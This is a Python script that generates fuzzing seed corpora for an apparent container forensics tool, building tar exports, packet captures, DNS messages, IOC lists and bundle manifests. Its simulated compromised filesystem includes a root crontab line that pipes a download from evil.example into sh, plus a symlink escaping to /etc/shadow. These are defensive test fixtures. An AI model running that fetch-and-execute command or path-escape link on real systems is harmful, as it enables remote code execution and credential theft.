#!/usr/bin/env python3
"""Writes the seed corpora in fuzz/corpus/<target>/: copies of tests/fixtures where they exist,
and small hand-made inputs (tar exports, pcap/pcapng files, DNS messages, manifests) where the
unit tests build theirs in code. Run once; the output is committed."""
import hashlib
import io
import json
import os
import shutil
import struct
import tarfile

here = os.path.dirname(os.path.abspath(__file__))
fixtures = os.path.join(here, "..", "tests", "fixtures")
corpus = os.path.join(here, "corpus")


def put(target, name, data):
    d = os.path.join(corpus, target)
    os.makedirs(d, exist_ok=True)
    with open(os.path.join(d, name), "wb") as f:
        f.write(data if isinstance(data, bytes) else data.encode())


def fixture(*parts):
    with open(os.path.join(fixtures, *parts), "rb") as f:
        return f.read()


# Engine JSON.
for name in sorted(os.listdir(os.path.join(fixtures, "engine"))):
    if name.startswith("inspect_") or name == "containers_json.json":
        put("container_inspect", name, fixture("engine", name))
# One document that is its own state record and list entry (engine/state_files.hpp), so that
# inspect_from_state gets past its agreement checks.
put("container_inspect", "state-record.json", '{"Id": "f7c3", "ID": "f7c3", "Names": ["/web"], "Name": "/web", "Image": "sha256:1", "ImageID": "sha256:1", "State": {"Running": true, "Pid": 42, "StartedAt": "2026-12-03T07:45:29Z"}, "Config": {"Image": "busybox", "Labels": {"a": "b"}}, "NetworkSettings": {"Networks": {"n": {"EndpointID": "e", "IPAddress": "172.21.0.2"}}, "Ports": {"80/tcp": null}}, "Mounts": [{"Type": "bind", "Source": "/run/docker.sock", "Destination": "/s"}], "Privileged": true}\n')

# Log frames: first byte is the piece size - 1.
logs = fixture("evidence", "logs_multiplexed.bin")
put("log_demux", "pieces-1.bin", b"\x00" + logs)
put("log_demux", "pieces-7.bin", b"\x06" + logs)
put("log_demux", "whole.bin", b"\xff" + logs)

# iptables-save, /proc/net (first byte: table), conntrack.
net = os.path.join(fixtures, "net")
for name in sorted(os.listdir(net)):
    data = fixture("net", name)
    if "tables-save" in name:
        put("iptables_save", name, data)
    elif name.startswith("nf_conntrack"):
        put("conntrack", name, data)
    elif name.startswith("proc-net-"):
        proto = name.split("-")[2]
        selector = {"tcp": 0, "udp": 1, "raw": 2, "tcp6": 3, "udp6": 4, "raw6": 5}[proto]
        put("proc_net", name, bytes([selector]) + data)


# A filesystem export: a crontab, a setuid shell, a link out, a temp dropper.
def tar_bytes(entries, fmt=tarfile.GNU_FORMAT):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=fmt) as t:
        for name, kind, data, mode in entries:
            info = tarfile.TarInfo(name)
            info.mtime = 1795683600
            info.mode = mode
            if kind == "dir":
                info.type = tarfile.DIRTYPE
                t.addfile(info)
            elif kind == "link":
                info.type = tarfile.SYMTYPE
                info.linkname = data
                t.addfile(info)
            else:
                info.size = len(data)
                t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


export = [
    ("etc/", "dir", None, 0o755),
    ("etc/cron.d/job", "file", b"* * * * * root wget http://evil.example/x | sh\n", 0o644),
    ("tmp/", "dir", None, 0o1777),
    ("tmp/x", "file", b"", 0o755),
    ("usr/bin/sh2", "file", b"\x7fELF", 0o4755),
    ("var/run/escape", "link", "../../../../etc/shadow", 0o777),
]
put("export_tar", "export-gnu.tar", tar_bytes(export))
put("export_tar", "export-pax.tar", tar_bytes(export[:4] + [("a" * 150 + "/b", "file", b"x", 0o600)],
                                             tarfile.PAX_FORMAT))

# Capture files: Ethernet/IPv4 TCP SYN, UDP DNS query and answer; pcap and pcapng.
def dns_message(answer):
    name = b"\x04evil\x07example\x00"
    m = struct.pack(">HHHHHH", 0x1234, 0x8180 if answer else 0x0100, 1, 1 if answer else 0, 0, 0)
    m += name + struct.pack(">HH", 1, 1)
    if answer:
        m += b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + bytes([203, 0, 113, 66])
    return m


def ipv4(src, dst, proto, l4):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(l4), 0, 0, 64, proto, 0,
                    bytes(src), bytes(dst))
    return h + l4


def ethernet(ip, ethertype=0x0800):
    return b"\x02" + b"\0" * 5 + b"\x02\0\0\0\0\x01" + struct.pack(">H", ethertype) + ip


c, s = [172, 18, 0, 2], [203, 0, 113, 66]
packets = [
    ethernet(ipv4(c, s, 6, struct.pack(">HHIIBBHHH", 40100, 4444, 1, 0, 0x50, 0x02, 1024, 0, 0))),
    ethernet(ipv4(c, [172, 18, 0, 1], 17, struct.pack(">HHHH", 40200, 53, 8 + len(dns_message(False)), 0)
                  + dns_message(False))),
    ethernet(ipv4([172, 18, 0, 1], c, 17, struct.pack(">HHHH", 53, 40200, 8 + len(dns_message(True)), 0)
                  + dns_message(True))),
]
pcap = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1)
for i, p in enumerate(packets):
    pcap += struct.pack("<IIII", 1795683600 + i, 0, len(p), len(p)) + p
put("capture_file", "flows.pcap", pcap)


def block(kind, body):
    body += b"\0" * (-len(body) % 4)
    return struct.pack("<II", kind, 12 + len(body)) + body + struct.pack("<I", 12 + len(body))


ng = block(0x0A0D0D0A, struct.pack("<IHHq", 0x1A2B3C4D, 1, 0, -1))
ng += block(1, struct.pack("<HHI", 1, 0, 65535))
for i, p in enumerate(packets):
    ts = (1795683600 + i) * 1000000
    ng += block(6, struct.pack("<IIIII", 0, ts >> 32, ts & 0xFFFFFFFF, len(p), len(p)) + p)
put("capture_file", "flows.pcapng", ng)
put("dns_message", "query.bin", dns_message(False))
put("dns_message", "answer.bin", dns_message(True))
# Malformed names: a pointer forward, a pointer loop, a name over 255 octets; a TCP stream start.
hdr = struct.pack(">HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
put("dns_message", "pointer-forward.bin", hdr + b"\x02c2\xc0\x20\0\x01\0\x01")
put("dns_message", "pointer-loop.bin", hdr + b"\xc0\x0c\0\x01\0\x01")
put("dns_message", "name-too-long.bin", hdr + (b"\x3c" + b"a" * 60) * 5 + b"\0\0\x01\0\x01")
put("dns_message", "tcp-prefixed.bin", struct.pack(">H", len(dns_message(False))) + dns_message(False))


# One capture per decoding path: DNS over TCP, DNS on another port, fragments, VXLAN, Geneve,
# IPv6 jumbogram, IPv4 BIG TCP (length 0), a bogus IPv6 extension chain.
def pcap_file(frames):
    out = struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 262144, 1)
    for i, f in enumerate(frames):
        p, wire = f if isinstance(f, tuple) else (f, len(f))
        out += struct.pack("<IIII", 1795683600 + i, 0, len(p), wire) + p
    return out


def tcp(sport, dport, flags, seq, payload=b""):
    return struct.pack(">HHIIBBHHH", sport, dport, seq, 0, 0x50, flags, 1024, 0, 0) + payload


def udp(sport, dport, payload):
    return struct.pack(">HHHH", sport, dport, 8 + len(payload), 0) + payload


def ipv4_frag(src, dst, proto, ident, offset, more, data):
    h = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(data), ident,
                    (0x2000 if more else 0) | (offset // 8), 64, proto, 0, bytes(src), bytes(dst))
    return h + data


def ipv6(src_last, dst_last, nh, data, plen=None):
    src = bytes([0x20, 0x01, 0x0d, 0xb8] + [0] * 11 + [src_last])
    dst = bytes([0x20, 0x01, 0x0d, 0xb8] + [0] * 11 + [dst_last])
    return struct.pack(">IHBB", 0x60000000, len(data) if plen is None else plen, nh, 64) + src + dst + data


r = [172, 18, 0, 53]
q = dns_message(False)
prefixed = struct.pack(">H", len(q)) + q
put("capture_file", "dns-tcp.pcap", pcap_file([
    ethernet(ipv4(c, r, 6, tcp(40300, 53, 0x02, 100))),
    ethernet(ipv4(r, c, 6, tcp(53, 40300, 0x12, 900))),
    ethernet(ipv4(c, r, 6, tcp(40300, 53, 0x18, 101, prefixed[:5]))),
    ethernet(ipv4(c, r, 6, tcp(40300, 53, 0x18, 106, prefixed[5:]))),
    ethernet(ipv4(r, c, 6, tcp(53, 40300, 0x18, 901,
                               struct.pack(">H", len(dns_message(True))) + dns_message(True)))),
]))
put("capture_file", "dns-port.pcap", pcap_file([
    ethernet(ipv4(c, s, 17, udp(40400, 8053, q))),
    ethernet(ipv4(c, s, 6, tcp(40401, 8053, 0x18, 1, prefixed))),
]))
whole = udp(40500, 9000, b"a" * 1000)
put("capture_file", "fragments.pcap", pcap_file([
    ethernet(ipv4_frag(c, s, 17, 7, 1008, False, b"b" * 100)),
    ethernet(ipv4_frag(c, s, 17, 7, 0, True, whole[:1008])),
    ethernet(ipv4_frag(c, s, 17, 8, 1008, False, b"c" * 100)),
    ethernet(ipv6(2, 66, 44, struct.pack(">BBHI", 17, 0, 1, 9) + udp(40501, 9000, b"d" * 64))),
    ethernet(ipv6(2, 66, 44, struct.pack(">BBHI", 17, 0, 9 << 3, 9) + b"e" * 64)),
]))
inner = ethernet(ipv4([10, 0, 0, 2], [10, 0, 0, 3], 17, udp(40600, 53, q)))
put("capture_file", "vxlan.pcap", pcap_file([
    ethernet(ipv4([192, 168, 1, 10], [192, 168, 1, 11], 17,
                  udp(50000, 4789, struct.pack(">II", 0x08000000, 42 << 8) + inner))),
]))
put("capture_file", "geneve.pcap", pcap_file([
    ethernet(ipv4([192, 168, 1, 10], [192, 168, 1, 12], 17,
                  udp(50001, 6081, struct.pack(">HHI", 0x0200, 0x6558, 7 << 8)
                      + b"\x01\x02\x03\x01\0\0\0\0" + inner))),
]))
hbh = struct.pack(">BBBBI", 6, 0, 0xc2, 4, 100000)
jumbo = ethernet(ipv6(2, 66, 0, hbh + tcp(40700, 443, 0x10, 1), plen=0), 0x86DD)
put("capture_file", "jumbo.pcap", pcap_file([(jumbo, 14 + 40 + 100000)]))
big = bytearray(ethernet(ipv4(c, s, 6, tcp(40800, 443, 0x10, 1, b"x" * 100))))
big[16:18] = b"\0\0"
put("capture_file", "big-tcp.pcap", pcap_file([(bytes(big), 14 + 150000)]))
put("capture_file", "ipv6-bad-chain.pcap", pcap_file([
    ethernet(ipv6(2, 66, 43, struct.pack(">BB", 6, 255) + b"\0" * 6 + tcp(1, 2, 0x02, 1)), 0x86DD),
    ethernet(ipv6(2, 67, 60, b""), 0x86DD),
]))

# IOC files.
put("ioc_file", "example.txt", """# IR-2026-042: beacon seen on web-1
ip      203.0.113.66          # C2 from the beacon
cidr    198.51.100.0/24       # the provider's range
domain  evil.example          # matches evil.example and any *.evil.example
sha256  9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08  # dropper
2001:db8::66                  # a bare value: its type is inferred
::ffff:203.0.113.66
cidr 2001:db8::/32
ip not-an-address
EVIL.Example.
""")

# STIX 2.1 and MISP indicators: the fixtures the unit tests compare with the text format.
for name in ("iocs.stix.json", "iocs.misp.json"):
    put("ioc_exchange", name, fixture("ioc", name))
put("ioc_exchange", "pattern.txt",
    "[ipv4-addr:value = '1.2.3.4' OR file:hashes.'SHA-256' = 'ab']")

# A manifest and its SHA256SUMS (split at a NUL byte), as collect writes them.
log = b"hello\n"
digest = hashlib.sha256(log).hexdigest()
manifest = {"schema": "forensic.bundle/1", "tool": "ir-collect", "tool_version": "0.1.0",
            "container_id": "0" * 64, "case_id": "IR-1",
            "artifacts": [{"artifact": "logs", "path": "logs/stdout.log", "size": len(log),
                           "sha256": digest, "source": "GET /v1.41/containers/x/logs"}],
            "failures": [{"artifact": "export", "error": "not_found", "message": "gone"}]}
manifest_text = json.dumps(manifest, indent=2).encode()
sums = f"{digest}  logs/stdout.log\n{hashlib.sha256(manifest_text).hexdigest()}  manifest.json\n"
put("manifest", "bundle.bin", manifest_text + b"\0" + sums.encode())

# A packed bundle, as pack_bundle writes it.
bundle = [("case-1/", "dir", None, 0o755), ("case-1/logs/", "dir", None, 0o755),
          ("case-1/SHA256SUMS", "file", sums.encode(), 0o644),
          ("case-1/logs/stdout.log", "file", log, 0o644),
          ("case-1/manifest.json", "file", manifest_text, 0o644)]
put("bundle_archive", "bundle.tar", tar_bytes(bundle, tarfile.PAX_FORMAT))

# Endpoints.
for i, text in enumerate(["unix:///var/run/docker.sock", "tcp://10.0.0.1:2376", "localhost:2375",
                          "[2001:db8::1]:2376", "tcp://[::1]", "unix://relative", "tcp://:99999"]):
    put("endpoint", f"e{i}.txt", text)
